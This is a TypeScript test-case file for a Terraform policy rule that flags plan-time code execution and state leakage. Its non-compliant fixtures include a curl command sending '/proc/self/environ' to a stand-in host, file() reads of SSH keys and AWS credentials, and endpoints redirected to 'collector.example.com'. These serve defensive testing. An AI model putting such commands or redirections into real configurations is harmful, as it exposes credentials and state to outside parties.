import { ROLLING_CHAIN_ROLE, SEC_2 } from "../../../policy/rules/sec-2-plan-time-code";
import type { RuleCases } from "./types";
import { ref } from "./types";

const ENDPOINT = "https://ams3.digitaloceanspaces.com";
const BACKEND = { s3: { bucket: "acme-tfstate-prod", key: "acme/dr.tfstate", region: "us-east-1", endpoints: { s3: ENDPOINT }, skip_credentials_validation: true, skip_s3_checksum: true } };
/** The terraform block every environment stack synthesizes. */
const terraform = (extra: object = {}) => ({
  backend: BACKEND,
  required_providers: { digitalocean: { source: "digitalocean/digitalocean", version: "2.71.0" }, random: { source: "hashicorp/random", version: "3.7.2" } },
  required_version: ">= 1.7.0",
  ...extra,
});
const stack = (extra: object = {}) => ({ terraform: terraform(), ...extra });
const data = (type: string, block: object) => stack({ data: { [type]: { it: block } } });
const resource = (type: string, block: object) => stack({ resource: { [type]: { it: block } } });
const meta = (role?: string) => ({ "//": { metadata: { path: "test/app-tier/app-1-settled", uniqueId: "app-tier_app-1-settled" }, ...(role ? { platform: { role } } : {}) } });
const step = (provisioner: object[], role: string | null = ROLLING_CHAIN_ROLE) =>
  resource("terraform_data", { ...meta(role ?? undefined), triggers_replace: { size: ref("digitalocean_droplet.app-tier_app-1", "size") }, provisioner });
const droplet = (extra: object = {}) => resource("digitalocean_droplet", { name: "acme-test-app-1", size: "s-1vcpu-1gb", image: "ubuntu-24-04-x64", region: "nyc3", ...extra });
/** dr reading prod's state outputs from the platform's own state bucket. */
const remoteState = (config: object, backend = "s3") => data("terraform_remote_state", { backend, config: { bucket: "acme-tfstate-prod", key: "acme/prod.tfstate", region: "us-east-1", endpoints: { s3: ENDPOINT }, ...config } });

export const cases: RuleCases = {
  rule: SEC_2,
  compliant: [
    { name: "the environment stacks' terraform block (s3 on Spaces; digitalocean and random)", json: stack(), subject: "terraform" },
    { name: "the bootstrap's terraform block (local backend, digitalocean alone)", json: { terraform: { backend: { local: { path: "../../../terraform.bootstrap.tfstate" } }, required_providers: { digitalocean: { source: "registry.terraform.io/digitalocean/digitalocean", version: "2.71.0" } } } }, subject: "terraform" },
    { name: "the digitalocean provider configured from the environment", json: stack({ provider: { digitalocean: [{}], random: [{}] } }), subject: "provider.digitalocean[0]" },
    { name: "a digitalocean data source", json: data("digitalocean_records", { domain: "acme.io" }), subject: "data.digitalocean_records.it" },
    { name: "a random_id and a Droplet", json: resource("random_id", { byte_length: 4 }), subject: "random_id.it" },
    { name: "a Droplet with an explicit digitalocean provider alias", json: droplet({ provider: "digitalocean.fra1" }), subject: "digitalocean_droplet.it" },
    { name: "a rename tracker (terraform_data without a provisioner)", json: resource("terraform_data", { input: "acme-prod-media" }), subject: "terraform_data.it" },
    { name: "the rolling chain's marked step with its local-exec wait", json: step([{ "local-exec": { command: "sleep 120" } }]), subject: "terraform_data.it" },
    { name: "the rolling chain's step may read a script file in its own command", json: step([{ "local-exec": { command: '${file("wait-healthy.sh")}' } }]), subject: "terraform_data.it" },
    { name: "terraform_remote_state on this stack's own state bucket and endpoint", json: remoteState({}), subject: "data.terraform_remote_state.it" },
    { name: "a stack of resources, data, outputs, variables and a removed block", json: stack({ resource: {}, data: {}, output: {}, variable: {}, removed: [{ from: "digitalocean_database_replica.replica", lifecycle: { destroy: false } }] }), subject: "stack" },
  ],
  nonCompliant: [
    { name: "an external data source (runs a program at plan)", json: data("external", { program: ["sh", "-c", "env"] }), subject: "data.external.it", attributes: ["(type)"] },
    { name: "an http data source (fetches a URL at plan)", json: data("http", { url: "https://example.com/?s=${var.x}" }), subject: "data.http.it", attributes: ["(type)"] },
    { name: "a local_file data source", json: data("local_file", { filename: "/proc/self/environ" }), subject: "data.local_file.it", attributes: ["(type)"] },
    { name: "a third provider required (hashicorp/local)", json: { terraform: terraform({ required_providers: { digitalocean: { source: "digitalocean/digitalocean" }, local: { source: "hashicorp/local", version: "2.5.2" } } }) }, subject: "terraform", attributes: ["required_providers.local"] },
    { name: "digitalocean installed from another namespace", json: { terraform: terraform({ required_providers: { digitalocean: { source: "mallory/digitalocean" } } }) }, subject: "terraform", attributes: ["required_providers.digitalocean.source"] },
    { name: "a null provider block", json: stack({ provider: { null: [{}] } }), subject: "provider.null[0]", attributes: ["(provider)"] },
    { name: "the digitalocean provider pointed at another API endpoint (where its token goes)", json: stack({ provider: { digitalocean: [{ api_endpoint: "https://collector.example.com" }] } }), subject: "provider.digitalocean[0]", attributes: ["api_endpoint"] },
    { name: "the digitalocean provider pointed at another Spaces endpoint", json: stack({ provider: { digitalocean: [{ alias: "x", spaces_endpoint: "https://collector.example.com" }] } }), subject: "provider.digitalocean[0]", attributes: ["spaces_endpoint"] },
    { name: "a null_resource", json: resource("null_resource", { triggers: { a: "b" } }), subject: "null_resource.it", attributes: ["(type)"] },
    { name: "a digitalocean-named resource on another provider", json: droplet({ provider: "mallory" }), subject: "digitalocean_droplet.it", attributes: ["provider"] },
    { name: "a local-exec provisioner on a Droplet", json: droplet({ provisioner: [{ "local-exec": { command: "curl -d @/proc/self/environ https://example.com" } }] }), subject: "digitalocean_droplet.it", attributes: ["provisioner[0]"] },
    { name: "a terraform_data with local-exec but without the rolling chain's mark", json: step([{ "local-exec": { command: "sleep 120" } }], null), subject: "terraform_data.it", attributes: ["provisioner[0]"] },
    { name: "a terraform_data marked with another role", json: step([{ "local-exec": { command: "sleep 120" } }], "warm-up"), subject: "terraform_data.it", attributes: ["provisioner[0]"] },
    { name: "the rolling chain's step with a remote-exec provisioner", json: step([{ "local-exec": { command: "sleep 120" } }, { "remote-exec": { inline: ["true"] } }]), subject: "terraform_data.it", attributes: ["provisioner[1]"] },
    { name: "a rolling-chain mark on a Droplet (only terraform_data may carry it)", json: droplet({ ...meta(ROLLING_CHAIN_ROLE), provisioner: [{ "local-exec": { command: "true" } }] }), subject: "digitalocean_droplet.it", attributes: ["provisioner[0]"] },
    { name: "a module block", json: stack({ module: { vpc: { source: "github.com/mallory/modules//vpc" } } }), subject: "stack", attributes: ["module.vpc"] },
    { name: "a check block (its data sources are read at plan)", json: stack({ check: { health: { data: { http: { site: { url: "https://example.com" } } } } } }), subject: "stack", attributes: ["check.health"] },
    { name: "a provisioner in a removed block", json: stack({ removed: [{ from: "digitalocean_droplet.old", lifecycle: { destroy: true }, provisioner: [{ "local-exec": { when: "destroy", command: "env" } }] }] }), subject: "stack", attributes: ["removed[0].provisioner"] },
    { name: "file() in user_data reads the planning machine's files", json: droplet({ user_data: '${file("/proc/self/environ")}' }), subject: "digitalocean_droplet.it", attributes: ["user_data"] },
    { name: "templatefile() in an output", json: stack({ output: { leak: { value: '${templatefile("~/.aws/credentials", {})}' } } }), subject: "output.leak", attributes: ["value"] },
    { name: "file() in locals", json: stack({ locals: { key: '${file("~/.ssh/id_ed25519")}' } }), subject: "stack", attributes: ["locals.key"] },
    { name: "terraform_remote_state on another bucket", json: remoteState({ bucket: "acme-tfstate-nonprod" }), subject: "data.terraform_remote_state.it", attributes: ["config.bucket"] },
    { name: "terraform_remote_state on another endpoint", json: remoteState({ endpoints: { s3: "https://collector.example.com" } }), subject: "data.terraform_remote_state.it", attributes: ["config.endpoints"] },
    { name: "terraform_remote_state with a legacy endpoint setting", json: remoteState({ endpoint: "https://collector.example.com" }), subject: "data.terraform_remote_state.it", attributes: ["config.endpoint"] },
    { name: "terraform_remote_state on an http backend", json: remoteState({}, "http"), subject: "data.terraform_remote_state.it", attributes: ["backend"] },
    {
      name: "terraform_remote_state in a stack with a local backend",
      json: { terraform: { backend: { local: { path: "x.tfstate" } } }, data: { terraform_remote_state: { it: { backend: "s3", config: { bucket: "acme-tfstate-prod", endpoints: { s3: ENDPOINT } } } } } },
      subject: "data.terraform_remote_state.it",
      attributes: ["backend"],
    },
    { name: "state in an http backend", json: { terraform: terraform({ backend: { http: { address: "https://collector.example.com/state" } } }) }, subject: "terraform", attributes: ["backend.http"] },
    { name: "an s3 backend whose endpoint is not Spaces", json: { terraform: terraform({ backend: { s3: { ...BACKEND.s3, endpoints: { s3: "https://collector.example.com", sts: "https://collector.example.com" } } } }) }, subject: "terraform", attributes: ["backend.s3.endpoints.s3", "backend.s3.endpoints.sts"] },
    { name: "a cloud block", json: { terraform: terraform({ cloud: { organization: "mallory" } }) }, subject: "terraform", attributes: ["cloud"] },
  ],
};
